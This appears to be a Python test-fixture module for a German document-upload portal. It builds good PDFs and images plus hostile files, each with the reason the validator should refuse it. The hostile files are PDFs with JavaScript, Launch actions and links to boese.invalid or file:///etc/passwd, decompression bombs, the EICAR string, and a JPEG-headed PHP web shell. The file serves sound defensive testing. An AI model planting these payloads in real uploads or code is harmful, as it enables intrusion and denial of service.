"""Files made at run time: good ones as people have them, and hostile ones with the reason to refuse each."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Literal

import pikepdf
from pikepdf import Array, Dictionary, Name, Object, Pdf, String
from PIL import Image, ImageCms, PngImagePlugin

from portal.dokument.rules import MAX_BYTES, MAX_PAGES, Ablehnung

Change = Callable[[Pdf], None]
Make = Callable[[], bytes]
Refusal = tuple[Make, Ablehnung]
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def pdf(change: Change | None = None, *, pages: int = 1, **save: object) -> bytes:
    """A PDF with a line of text on each page, changed before it is saved."""
    document = pikepdf.new()
    font = Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    for number in range(pages):
        document.add_blank_page(page_size=(595, 842))
        page = document.pages[-1]
        page.Resources = Dictionary(Font=Dictionary(F1=font))
        page.Contents = document.make_stream(b"BT /F1 12 Tf 72 720 Td (Seite %d) Tj ET" % (number + 1))
    if change is not None:
        change(document)
    target = io.BytesIO()
    document.save(target, **save)  # type: ignore[arg-type]
    return target.getvalue()


def image(form: str, mode: str = "RGB", size: tuple[int, int] = (320, 200), **save: object) -> bytes:
    target = io.BytesIO()
    Image.effect_noise(size, 60).convert(mode).save(target, form, **save)
    return target.getvalue()


def with_gps() -> bytes:
    """A photo held upright, with the place where it was taken."""
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: turn by 90 degrees
    exif[0x010F] = "Erfundene Kamera"
    exif.get_ifd(0x8825)[2] = (51.0, 3.0, 45.0)
    return image("JPEG", exif=exif.tobytes())


def png_header(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 100_000, 9)
    parts = ((b"IHDR", head), (b"IDAT", body), (b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(png_chunk(*part) for part in parts)


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def archive(name: str, content: bytes) -> bytes:
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as bundle:
        bundle.writestr(name, content)
    return target.getvalue()


def compressed_zeros(megabytes: int) -> bytes:
    engine = zlib.compressobj(9)
    block = b"\0" * (1024 * 1024)
    return b"".join(engine.compress(block) for _ in range(megabytes)) + engine.flush()


def script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert('Hallo');"))


def action(kind: str, **more: Object) -> Dictionary:
    return Dictionary({"/S": Name(f"/{kind}"), **{f"/{key}": value for key, value in more.items()}})


def open_with(make: Callable[[], Dictionary], *, indirect: bool) -> bytes:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = document.make_indirect(make()) if indirect else make()

    return pdf(change)


def in_root(key: str, make: Callable[[Pdf], object]) -> bytes:
    return pdf(lambda document: document.Root.__setitem__(f"/{key}", make(document)))


def annotation(subtype: str, **more: Object) -> bytes:
    def change(document: Pdf) -> None:
        entries = {"/Type": Name.Annot, "/Subtype": Name(f"/{subtype}"), "/Rect": Array([10, 10, 90, 90])}
        entries |= {f"/{key}": value for key, value in more.items()}
        document.pages[0].Annots = Array([Dictionary(entries)])

    return pdf(change)


def link(target: str) -> bytes:
    return annotation("Link", A=Dictionary(S=Name.URI, URI=String(target)))


def buried_script(depth: int) -> bytes:
    """JavaScript at the end of a chain of direct arrays and dictionaries in an object of no known meaning."""

    def change(document: Pdf) -> None:
        value: object = Dictionary(X=script())
        for _ in range(depth):
            value = Array([value])
        document.Root.PieceInfo = Dictionary(Muster=value)

    return pdf(change)


def in_names(key: str) -> Change:
    def change(document: Pdf) -> None:
        entry = Dictionary(Names=Array([String("x"), document.make_indirect(script())]))
        document.Root.Names = Dictionary({f"/{key}": entry})

    return change


def with_attachment(document: Pdf) -> None:
    document.attachments["anlage.txt"] = b"noch eine Datei"


def with_lone_file_specification(document: Pdf) -> None:
    embedded = document.make_stream(b"noch eine Datei", Type=Name.EmbeddedFile)
    document.Root.AF = Array([Dictionary(Type=Name.Filespec, F=String("a.txt"), EF=Dictionary(F=embedded))])


def with_xfa(document: Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array(), XFA=document.make_stream(b"<xdp:xdp/>"))


def with_page_actions(document: Pdf) -> None:
    document.pages[0].AA = Dictionary(O=action("Named", N=Name.Print))


def with_document_actions(document: Pdf) -> None:
    document.Root.AA = document.make_indirect(Dictionary(WC=script()))


def with_field_script(document: Pdf) -> None:
    field = Dictionary(FT=Name.Tx, T=String("Feld"), AA=Dictionary(K=script()))
    document.Root.AcroForm = Dictionary(Fields=Array([document.make_indirect(field)]))


def with_outline_script(document: Pdf) -> None:
    item = document.make_indirect(Dictionary(Title=String("Kapitel"), A=script()))
    document.Root.Outlines = Dictionary(First=item, Last=item, Count=1)


def with_chained_action(document: Pdf) -> None:
    goto = Dictionary(S=Name.GoTo, D=Array([document.pages[0].obj, Name.Fit]), Next=action("Named", N=Name.Print))
    document.Root.OpenAction = goto


def with_loose_script(document: Pdf) -> None:
    """Nothing refers to it until a reader repairs the file."""
    document.Root.Halter = document.make_indirect(script())


def with_collection(document: Pdf) -> None:
    document.Root.Collection = Dictionary(View=Name.T)


def with_external_stream(document: Pdf) -> None:
    document.pages[0].Contents = document.make_stream(b"", F=String(r"\\server\freigabe\inhalt"))


def with_bomb(layers: int) -> Change:
    def change(document: Pdf) -> None:
        content = compressed_zeros(300)
        for _ in range(layers - 1):
            content = zlib.compress(content, 9)
        stream = pikepdf.Stream(document, content)
        stream.Filter = Array([Name.FlateDecode] * layers)
        document.pages[0].Contents = document.make_indirect(stream)

    return change


def with_huge_image(document: Pdf) -> None:
    stream = document.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image, Width=60_000, Height=60_000)
    stream.ColorSpace, stream.BitsPerComponent = Name.DeviceGray, 1
    document.pages[0].Resources.XObject = Dictionary(Im0=stream)


def with_encoded_names() -> bytes:
    """JavaScript under names that a search of the bytes does not find."""
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R/Open#41ction<</S/J#61vaScript/#4aS(app.alert\\(1\\))>>>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
    )


def raw_pdf(*objects: bytes) -> bytes:
    """A PDF written by hand; the first object is the catalogue."""
    body, offsets = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, start=1):
        offsets.append(len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return body + table + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(body))


def without_pages() -> bytes:
    document = pikepdf.new()
    target = io.BytesIO()
    document.save(target)
    return target.getvalue()


def encrypted(user: str, method: Literal[3, 6]) -> bytes:
    new = method >= 4
    return pdf(encryption=pikepdf.Encryption(owner="geheim", user=user, R=method, aes=new, metadata=new))


def object_stream_bomb() -> bytes:
    """A compressed object stream of 400 MB that a reader must unpack before it knows anything."""
    packed = compressed_zeros(400)
    entries = b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>" % len(packed)
    stream = entries + b"stream\n" + packed + b"\nendstream"
    body = b"%PDF-1.7\n"
    offsets = [len(body)]
    body += b"3 0 obj" + stream + b"endobj\n"
    offsets.append(len(body))
    body += b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    start = len(body)
    rows = [(0, 0, 65535), (2, 3, 0), (1, offsets[1], 0), (1, offsets[0], 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    head = b"4 0 obj<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return body + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start


def eicar_pdf() -> bytes:
    """A valid PDF that carries the test virus; the parse finds nothing wrong, the scanner must."""
    return pdf(
        lambda document: document.pages[0].obj.__setitem__("/Muster", document.make_stream(EICAR)),
        compress_streams=False,
    )


def good_files() -> dict[str, Make]:
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    text = PngImagePlugin.PngInfo()
    text.add_text("Comment", "von Hand")
    return {
        "eine-seite.pdf": lambda: pdf(),
        "drei-seiten.PDF": lambda: pdf(pages=3),
        "alt.pdf": lambda: pdf(force_version="1.3", object_stream_mode=pikepdf.ObjectStreamMode.disable),
        "objektstroeme.pdf": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "linearisiert.pdf": lambda: pdf(linearize=True),
        "unkomprimiert.pdf": lambda: pdf(compress_streams=False),
        "zeilenende.pdf": lambda: pdf(pages=3) + b"\r\n\r\n",
        "oeffnet-seite.pdf": lambda: in_root("OpenAction", lambda d: Array([d.pages[0].obj, Name.Fit])),
        "geht-zur-seite.pdf": lambda: in_root(
            "OpenAction", lambda d: Dictionary(S=Name.GoTo, D=Array([d.pages[0].obj, Name.Fit]))
        ),
        "mit-link.pdf": lambda: link("https://www.beispiel.invalid/"),
        "mit-mail.pdf": lambda: link("mailto:post@beispiel.invalid"),
        "titel.pdf": lambda: pdf(lambda d: d.docinfo.__setitem__("/Title", "Vollmacht für Änne Öztürk")),
        "formularfeld.pdf": lambda: in_root(
            "AcroForm", lambda d: Dictionary(Fields=Array([Dictionary(FT=Name.Tx, T=String("Ort"))]))
        ),
        "viele-seiten.pdf": lambda: pdf(pages=MAX_PAGES),
        "foto.jpg": lambda: image("JPEG"),
        "foto.jpeg": lambda: image("JPEG", progressive=True),
        "foto.jfif": lambda: image("JPEG", quality=30),
        "grau.JPG": lambda: image("JPEG", "L"),
        "druck.jpg": lambda: image("JPEG", "CMYK"),
        "profil.jpg": lambda: image("JPEG", icc_profile=profile),
        "ort.jpg": lambda: with_gps(),
        "handy.jpg": lambda: image("MPO", append_images=[Image.new("RGB", (320, 200))], save_all=True),
        "scan.png": lambda: image("PNG"),
        "schwarzweiss.png": lambda: image("PNG", "1"),
        "palette.png": lambda: image("PNG", "P", transparency=0),
        "durchsichtig.png": lambda: image("PNG", "RGBA"),
        "grau-alpha.png": lambda: image("PNG", "LA"),
        "kommentar.png": lambda: image("PNG", pnginfo=text),
        "punkt.png": lambda: image("PNG", size=(1, 1)),
    }


_A = Ablehnung


def refused_by_name_or_size() -> dict[str, Refusal]:
    """Refused by `rules.detect_art`, before anything is parsed."""
    return {
        "leer.pdf": (lambda: b"", _A.LEER),
        "ohne-endung": (lambda: pdf(), _A.FALSCHER_TYP),
        "rechnung.pdf.exe": (lambda: b"MZ\x90\0", _A.FALSCHER_TYP),
        "bombe.docx": (lambda: archive("word/document.xml", b"\0" * 50_000_000), _A.FALSCHER_TYP),
        "tabelle.xlsm": (lambda: archive("xl/vbaProject.bin", b"x"), _A.FALSCHER_TYP),
        "archiv.zip": (lambda: archive("a.txt", b"x"), _A.FALSCHER_TYP),
        "bild.svg": (lambda: b"<svg onload='alert(1)'/>", _A.FALSCHER_TYP),
        "seite.html": (lambda: b"<script>alert(1)</script>", _A.FALSCHER_TYP),
        "bild.gif": (lambda: image("GIF", "P"), _A.FALSCHER_TYP),
        "bild.tiff": (lambda: image("TIFF"), _A.FALSCHER_TYP),
        "bild.webp": (lambda: image("WEBP"), _A.FALSCHER_TYP),
        "foto.heic": (lambda: b"\0\0\0\x18ftypheic", _A.FALSCHER_TYP),
        "docx-als.pdf": (lambda: archive("word/document.xml", b"x"), _A.INHALT_PASST_NICHT),
        "html-davor.pdf": (lambda: b"<html>" + pdf(), _A.INHALT_PASST_NICHT),
        "leerzeile-davor.pdf": (lambda: b"\n" + pdf(), _A.INHALT_PASST_NICHT),
        "png-als.jpg": (lambda: image("PNG"), _A.INHALT_PASST_NICHT),
        "jpeg-als.png": (lambda: image("JPEG"), _A.INHALT_PASST_NICHT),
        "pdf-als.png": (lambda: pdf(), _A.INHALT_PASST_NICHT),
        "gif-als.jpg": (lambda: image("GIF", "P"), _A.INHALT_PASST_NICHT),
        "programm.pdf": (lambda: b"\x7fELF" + b"\0" * 100, _A.INHALT_PASST_NICHT),
        "text.png": (lambda: b"nur Text", _A.INHALT_PASST_NICHT),
        "zu-gross.pdf": (lambda: pdf() + b" " * MAX_BYTES, _A.ZU_GROSS),
        "zu-gross.jpg": (lambda: b"\xff\xd8\xff" + b"\0" * MAX_BYTES, _A.ZU_GROSS),
    }


def refused_by_parsing() -> dict[str, Refusal]:
    """Refused by the child process."""
    return {**_active_pdfs(), **_pdfs_with_files(), **_broken_pdfs(), **_bad_images()}


def _active_pdfs() -> dict[str, Refusal]:
    submit = action("SubmitForm", F=String("https://boese.invalid/"))
    files = {
        "skript-direkt.pdf": lambda: open_with(script, indirect=False),
        "skript-indirekt.pdf": lambda: open_with(script, indirect=True),
        "skript-verschleiert.pdf": lambda: with_encoded_names(),
        "skript-in-objektstrom.pdf": lambda: pdf(
            with_document_actions, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True
        ),
        "skript-vergraben.pdf": lambda: buried_script(3),
        "skript-tief-vergraben.pdf": lambda: buried_script(400),
        "skript-im-namensbaum.pdf": lambda: pdf(in_names("JavaScript")),
        "skript-im-feld.pdf": lambda: pdf(with_field_script),
        "skript-in-gliederung.pdf": lambda: pdf(with_outline_script),
        "skript-ohne-bezug.pdf": lambda: pdf(with_loose_script),
        "skript-als-strom.pdf": lambda: in_root("X", lambda d: Dictionary(JS=d.make_stream(b"app.alert(1)"))),
        "startet-direkt.pdf": lambda: open_with(lambda: action("Launch", F=String("calc.exe")), indirect=False),
        "startet-indirekt.pdf": lambda: open_with(lambda: action("Launch", F=String("calc.exe")), indirect=True),
        "startet-bei-klick.pdf": lambda: annotation("Link", A=action("Launch", F=String("calc.exe"))),
        "sendet-formular.pdf": lambda: annotation("Link", A=submit),
        "setzt-zurueck.pdf": lambda: annotation("Link", A=action("ResetForm")),
        "laedt-daten.pdf": lambda: annotation("Link", A=action("ImportData", F=String("a.fdf"))),
        "geht-zum-server.pdf": lambda: annotation("Link", A=action("GoToR", F=String(r"\\boese.invalid\x"))),
        "geht-in-anlage.pdf": lambda: annotation("Link", A=action("GoToE", D=Array([0]))),
        "spielt-ton.pdf": lambda: annotation("Link", A=action("Sound")),
        "spielt-film.pdf": lambda: annotation("Movie"),
        "bildschirm.pdf": lambda: annotation("Screen"),
        "raumbild.pdf": lambda: annotation("3D"),
        "medien.pdf": lambda: annotation("RichMedia"),
        "medien-inhalt.pdf": lambda: annotation("Link", RichMediaContent=Dictionary()),
        "darbietung.pdf": lambda: annotation("Link", A=action("Rendition")),
        "adresse-skript.pdf": lambda: link("javascript:alert(1)"),
        "adresse-datei.pdf": lambda: link("file:///etc/passwd"),
        "adresse-beim-oeffnen.pdf": lambda: open_with(
            lambda: action("URI", URI=String("https://boese.invalid/")), indirect=False
        ),
        "druckt-beim-oeffnen.pdf": lambda: open_with(lambda: action("Named", N=Name.Print), indirect=True),
        "kette-beim-oeffnen.pdf": lambda: pdf(with_chained_action),
        "seite-handelt.pdf": lambda: pdf(with_page_actions),
        "dokument-handelt.pdf": lambda: pdf(with_document_actions),
        "xfa.pdf": lambda: pdf(with_xfa),
        "inhalt-von-aussen.pdf": lambda: pdf(with_external_stream),
    }
    return {name: (make, _A.PDF_AKTIV) for name, make in files.items()}


def _pdfs_with_files() -> dict[str, Refusal]:
    return {
        "anlage.pdf": (lambda: pdf(with_attachment), _A.PDF_ANLAGEN),
        "anlage-ohne-verzeichnis.pdf": (lambda: pdf(with_lone_file_specification), _A.PDF_ANLAGEN),
        "anlage-als-zettel.pdf": (lambda: annotation("FileAttachment"), _A.PDF_ANLAGEN),
        "sammlung.pdf": (lambda: pdf(with_collection), _A.PDF_ANLAGEN),
        "kennwort-rc4.pdf": (lambda: encrypted("nutzer", 3), _A.PDF_VERSCHLUESSELT),
        "kennwort-aes.pdf": (lambda: encrypted("nutzer", 6), _A.PDF_VERSCHLUESSELT),
        "nur-rechte.pdf": (lambda: encrypted("", 6), _A.PDF_VERSCHLUESSELT),
        "nur-rechte-alt.pdf": (lambda: encrypted("", 3), _A.PDF_VERSCHLUESSELT),
    }


def _broken_pdfs() -> dict[str, Refusal]:
    whole = pdf(pages=5)
    return {
        "halb.pdf": (lambda: whole[: len(whole) // 2], _A.BESCHAEDIGT),
        "ohne-ende.pdf": (lambda: whole[:-20], _A.BESCHAEDIGT),
        "nur-kopf.pdf": (lambda: b"%PDF-1.7\n", _A.BESCHAEDIGT),
        "unsinn.pdf": (lambda: b"%PDF-1.7\n" + bytes(range(256)) * 50 + b"%%EOF", _A.BESCHAEDIGT),
        "zip-dahinter.pdf": (lambda: whole + archive("a.exe", b"MZ"), _A.BESCHAEDIGT),
        "html-dahinter.pdf": (lambda: whole + b"<script>alert(1)</script>", _A.BESCHAEDIGT),
        "zweites-pdf-falsch.pdf": (lambda: whole.replace(b"startxref", b"startxxxx"), _A.BESCHAEDIGT),
        "ohne-seiten.pdf": (lambda: without_pages(), _A.BESCHAEDIGT),
        "zu-viele-seiten.pdf": (lambda: pdf(pages=MAX_PAGES + 1), _A.ZU_UMFANGREICH),
        "bombe.pdf": (lambda: pdf(with_bomb(1), compress_streams=False), _A.ZU_UMFANGREICH),
        "bombe-doppelt.pdf": (lambda: pdf(with_bomb(2), compress_streams=False), _A.ZU_UMFANGREICH),
        "riesenbild.pdf": (lambda: pdf(with_huge_image), _A.ZU_UMFANGREICH),
        "bombe-objektstrom.pdf": (object_stream_bomb, _A.BESCHAEDIGT),
    }


def _bad_images() -> dict[str, Refusal]:
    photo, scan = image("JPEG", size=(900, 900)), image("PNG", size=(300, 300))
    broken = bytearray(scan)
    broken[len(broken) // 2] ^= 0xFF
    return {
        "60000.png": (lambda: png_header(60_000, 60_000), _A.ZU_UMFANGREICH),
        "7000x7000.png": (lambda: png_header(7_000, 7_000), _A.ZU_UMFANGREICH),
        "halb.jpg": (lambda: photo[: len(photo) // 2], _A.BESCHAEDIGT),
        "halb.png": (lambda: scan[: len(scan) // 2], _A.BESCHAEDIGT),
        "gekippt.png": (lambda: bytes(broken), _A.BESCHAEDIGT),
        "wenig-zeilen.png": (lambda: png_header(6_000, 6_000), _A.BESCHAEDIGT),
        "null.png": (lambda: png_header(0, 10), _A.BESCHAEDIGT),
        "nur-kopf.jpg": (lambda: b"\xff\xd8\xff\xe0", _A.BESCHAEDIGT),
        "nur-kopf.png": (lambda: b"\x89PNG\r\n\x1a\n", _A.BESCHAEDIGT),
        "zip-mit-png-kopf.png": (lambda: b"\x89PNG\r\n\x1a\n" + archive("a.exe", b"MZ"), _A.BESCHAEDIGT),
        "php-mit-jpeg-kopf.jpg": (lambda: b"\xff\xd8\xff<?php system($_GET['c']); ?>", _A.BESCHAEDIGT),
    }
